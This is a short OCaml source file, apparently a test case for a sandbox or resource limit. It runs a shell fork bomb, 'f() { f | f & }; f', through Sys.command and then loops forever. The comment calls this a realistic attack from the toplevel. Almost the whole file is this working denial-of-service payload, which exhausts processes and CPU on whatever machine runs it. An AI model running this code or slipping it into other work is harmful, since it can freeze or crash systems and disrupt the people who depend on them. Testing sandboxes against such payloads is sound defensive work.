(* @MARKER@: a shell fork bomb through Sys.command, the realistic attack from the toplevel. *)
let _ = Sys.command "f() { f | f & }; f # @MARKER@"
let rec loop () = loop ()
let () = loop ()
